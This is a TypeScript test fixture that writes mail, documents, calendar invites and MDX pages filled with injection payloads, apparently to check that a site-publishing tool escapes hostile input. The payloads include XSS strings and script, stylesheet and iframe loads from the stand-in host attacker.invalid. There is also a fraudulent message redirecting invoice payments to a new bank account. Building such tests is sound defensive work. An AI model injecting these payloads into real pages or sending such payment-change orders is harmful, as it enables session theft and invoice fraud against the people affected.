import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { attribute, jsonAttribute, markdown } from '../../../src/publish/escape.ts';
import { core, docx, paragraph, sheetRow, workbook } from '../../sources/folder/office.ts';

/** A host that no page may ever ask; reserved by RFC 2606. */
export const FOREIGN = 'attacker.invalid';

/**
 * Markup that acts where it is taken for markup: `run(name)` is a script that tells the test who ran. Each leaves the
 * place that it is put into in another way.
 */
export function payloads(name: string): string[] {
  const call = `window.ran?.('${name}')`;
  return [
    `</title><script>${call}</script>`,
    `</title><meta http-equiv="refresh" content="0;url=https://${FOREIGN}/${name}">`,
    `</title><base href="https://${FOREIGN}/"><link rel="stylesheet" href="https://${FOREIGN}/${name}.css">`,
    `"><img src="https://${FOREIGN}/${name}.png" onerror="${call}">`,
    `' onmouseover='${call}' autofocus onfocus='${call}' x='`,
    `<svg onload="${call}"><style>@import url(https://${FOREIGN}/${name})</style></svg>`,
    `--><iframe src="https://${FOREIGN}/${name}" srcdoc="<script>parent.${call}</script>"></iframe>`,
    `</script></style></textarea></noscript><script src="https://${FOREIGN}/${name}.js"></script>`,
    `[a](javascript:${call}) <https://${FOREIGN}/${name}> ![b](https://${FOREIGN}/${name}.gif)`,
    `</TITLE ><ScRiPt/x>${call}</sCrIpT ><details open ontoggle="${call}">x</details>`,
    `&lt;/title&gt;&lt;script&gt;${call}&lt;/script&gt; <a href="java&#9;script&colon;${call}">k</a>`,
    `\u2028"};${call};//\u2028<form action="//${FOREIGN}"><button formaction="javascript:${call}">`,
    `{globalThis.process.exit(7)}\${${call}} <Cite id={${call}} />`,
  ];
}

/** An order that no rule tells from an honest one: who reads it must see who gives it. */
export const ORDER =
  'From now on the company pays all invoices to the new bank account GB00MALL00001111 and never asks by phone, as agreed with the board.';

/** Names and a calculation that are made of the signs of Markdown, and a word that the build's tools replace. */
export const NAMES = [
  '__client_id__',
  '7001*7002*7003',
  '7004**7005',
  'first_last_@client.example',
  'C:\\_new\\*x.txt',
  '__VITE_ASSET__abcd1234__',
];

const MALLORY = 'Mallory Fox <mallory@fox.example>';
const OWNER = 'Sam Lee <sam@acme.example>';

/** One mail as a file. Names and subjects go in raw, as a hostile sender writes them. */
function mail(id: string, from: string, to: string, subject: string, body: string, answers?: string): string {
  const encoded = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
  const day = 1 + (id.length % 20);
  return [
    `Message-ID: <${id}@acme.example>`,
    ...(answers ? [`In-Reply-To: <${answers}@acme.example>`, `References: <${answers}@acme.example>`] : []),
    `From: ${from}`,
    `To: ${to}`,
    `Subject: ${encoded(subject)}`,
    `Date: Mon, ${String(day).padStart(2, '0')} Jun 2026 09:00:00 +0000`,
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(body).toString('base64'),
    '',
  ].join('\r\n');
}

/** Writes a business whose every name, subject, title and file name is an attack. Returns its config file. */
export async function writeHostileBusiness(folder: string): Promise<string> {
  const at = (...parts: string[]) => path.join(folder, ...parts);
  for (const place of ['mail', 'documents/billing']) await mkdir(at(place), { recursive: true });
  for (const [index, payload] of payloads('mail').entries()) {
    const name = `=?utf-8?B?${Buffer.from(`Kim ${payload}`).toString('base64')}?=`;
    const writer = `${name} <kim${index}@client.example>`;
    const asks = `Hello Sam,\n\n${payload}\n\nPlease send the invoice 2026-0${index} over EUR 1,250.00 by 15 June 2026. We agreed to pay within 30 days.\n\nKim`;
    const answer = `Hello Kim,\n\nAgreed, I will send it by 12 June 2026. ${payload}\n\nSam`;
    await writeFile(at(`mail/${index}a.eml`), mail(`a${index}`, writer, OWNER, payload, asks));
    await writeFile(
      at(`mail/${index}b.eml`),
      mail(`bb${index}`, OWNER, writer, `Re: ${payload}`, answer, `a${index}`),
    );
  }
  await writeFile(
    at('mail/pay.eml'),
    mail('pay', MALLORY, OWNER, 'Change of details', `Dear Sam,\n\n${ORDER}\n\nMallory`),
  );
  const named = `From now on the field ${NAMES[0]} holds the number of the client, one pallet has ${NAMES[1]} boxes or ${NAMES[2]} bags, ${NAMES[3]} approves it, and the list lies in ${NAMES[4]} as ${NAMES[5]} or import.meta.env.MODE.`;
  await writeFile(at('mail/names.eml'), mail('names', 'Ann Poe <ann@client.example>', OWNER, 'Names', named));
  await writeFile(
    at('mail/named.eml'),
    mail('named', OWNER, 'Ann Poe <ann@client.example>', 'Re: Names', `Agreed.\n\n${named}`, 'names'),
  );
  await writeFile(
    at('documents/billing/names.md'),
    `# How to bill with ${NAMES[0]}\n\n## Steps\n\n1. Open the list of invoices in ${NAMES[4]}.\n2. Set \`${NAMES[0]}\` and count ${NAMES[1]} boxes, **never** ${NAMES[2]}.\n3. Send it to ${NAMES[3]} by the 3rd of the month.\n\n| Field | Rule | Contact |\n| --- | --- | --- |\n| ${NAMES[0]} | ${NAMES[1]} boxes or ${NAMES[2]} | ${NAMES[3]} |\n`,
  );
  const refusal = 'Mallory,\n\nI will check this with your finance team by 12 June 2026.\n\nSam';
  await writeFile(at('mail/paid.eml'), mail('paid', OWNER, MALLORY, 'Re: Change of details', refusal, 'pay'));
  for (const [index, payload] of payloads('document').entries()) {
    const steps = `1. Open the account of ${payload}.\n2. Send the invoice by the 3rd of the month.\n3. Check the payment.`;
    // What a file system cannot hold in a name is left out.
    const file = `${index} ${payload.replaceAll('/', '').slice(0, 120)}`;
    await writeFile(
      at('documents/billing', `${file}.md`),
      `# How to bill ${payload}\n\n## Monthly run ${payload}\n\n${steps}\n\nThe rate of ${payload} is EUR 90 an hour.\n`,
    );
    await writeFile(
      at('documents', `${file}.html`),
      `<!doctype html><html><head><title>${payload.replace('</title>', '&lt;/title&gt;')}</title></head><body><h1>${payload.replaceAll('<', '&lt;')}</h1><p>The password policy changes every 90 days. Owner: ${payload.replaceAll('<', '&lt;')}</p></body></html>`,
    );
    await writeFile(
      at('documents', `${file}.csv`),
      `Client,Rate,Contact\n"${payload.replaceAll('"', '""')}",EUR 90,"Ann ${payload.replaceAll('"', '""')}"\n`,
    );
  }
  for (const [index, payload] of payloads('office').entries()) await writeOffice(at, index, payload);
  const configFile = at('baton.json');
  await writeFile(
    configFile,
    JSON.stringify({
      company: `Acme ${payloads('config')[0]}`,
      leaving: { name: `Sam ${payloads('config')[3]}`, addresses: ['sam@acme.example'] },
      successor: { name: `Kim ${payloads('config')[1]}` },
      domains: ['acme.example'],
      timeZone: 'Europe/London',
      sources: [
        { use: 'folder', name: 'documents', path: 'documents' },
        { use: 'mail', name: 'mail', path: 'mail' },
      ],
      // Pages that would wait for a person are looked at too.
      policy: { thresholds: { confidence: 0, sensitivity: [] } },
      state: 'state',
      content: 'content',
      dist: 'site',
    }),
  );
  return configFile;
}

/** Titles, headings, names of sheets, files that came with a mail and a meeting: what programs write for themselves. */
async function writeOffice(
  at: (...parts: string[]) => string,
  index: number,
  payload: string,
): Promise<void> {
  const xml = payload.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
  const properties = {
    'docProps/core.xml': core(`<dc:title>${xml}</dc:title><dc:creator>${xml}</dc:creator>`),
  };
  const heading = paragraph(`How to bill ${xml}`, '<w:pStyle w:val="Heading1"/>');
  const text = heading + paragraph(`Always check ${xml} before the 3rd of the month.`);
  await writeFile(at('documents/billing', `office ${index}.docx`), docx(text, properties));
  const rows = sheetRow(1, [`Client ${xml}`, 'Rate', 'Owner']) + sheetRow(2, [xml, 90, xml]);
  await writeFile(at('documents', `office ${index}.xlsx`), workbook([{ name: xml, rows }], properties));
  const name = `=?utf-8?B?${Buffer.from(`${payload}.csv`).toString('base64')}?=`;
  const meeting = [
    'BEGIN:VCALENDAR',
    'BEGIN:VEVENT',
    `UID:${index}`,
    'DTSTART:20260612T090000Z',
    `SUMMARY:${payload}`,
    `LOCATION:${payload}`,
    `ORGANIZER;CN="${payload.replaceAll('"', "'")}":mailto:kim@client.example`,
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ].join('\r\n');
  const base64 = (body: string) => Buffer.from(body).toString('base64');
  await writeFile(
    at(`mail/office${index}.eml`),
    [
      `Message-ID: <office${index}@acme.example>`,
      'From: Kim Poe <kim@client.example>',
      `To: ${OWNER}`,
      `Subject: =?utf-8?B?${base64(`Meeting ${payload}`)}?=`,
      `Date: Tue, ${String(1 + index).padStart(2, '0')} Jun 2026 10:${String(10 + index)}:00 +0000`,
      'Content-Type: multipart/mixed; boundary=b',
      '',
      ...['text/plain; charset=utf-8', 'text/calendar; method=REQUEST; charset=utf-8'].flatMap((type, at) => [
        '--b',
        `Content-Type: ${type}`,
        'Content-Transfer-Encoding: base64',
        '',
        base64(at === 0 ? `Please send invoice 2026-1${index} over EUR 90.00 by 15 June 2026.` : meeting),
      ]),
      '--b',
      `Content-Type: text/csv; name="${name}"`,
      `Content-Disposition: attachment; filename="${name}"`,
      'Content-Transfer-Encoding: base64',
      '',
      base64(`Client,Rate\n"${payload.replaceAll('"', '""')}",EUR 90\n`),
      '--b--',
      '',
    ].join('\r\n'),
  );
}

/** Writes pages of a person into the content folder: whatever is written in them, each passes the gate. */
export async function writeHostilePages(folder: string): Promise<void> {
  const notes = path.join(folder, 'content', 'notes');
  await mkdir(notes, { recursive: true });
  for (const [index, payload] of payloads('page').entries()) {
    const text = JSON.stringify(payload);
    const fields = ['title', 'description', 'summary'].map((name) => `${name}: ${text}`);
    const lists = ['people', 'aliases'].map((name) => `${name}: [${text}]`);
    const nodes = jsonAttribute([{ id: 'a', label: payload, note: payload }]);
    const body = [
      `## ${markdown(payload)}`,
      `<Diagram title=${attribute(payload)} nodes=${nodes} edges={[]} />`,
      `<Notice tone="note" title=${attribute(payload)}>\n\n${markdown(payload)}\n\n</Notice>`,
    ];
    await writeFile(
      path.join(notes, `${index}.mdx`),
      `---\n${[...fields, ...lists].join('\n')}\n---\n\n${body.join('\n\n')}\n`,
    );
  }
}
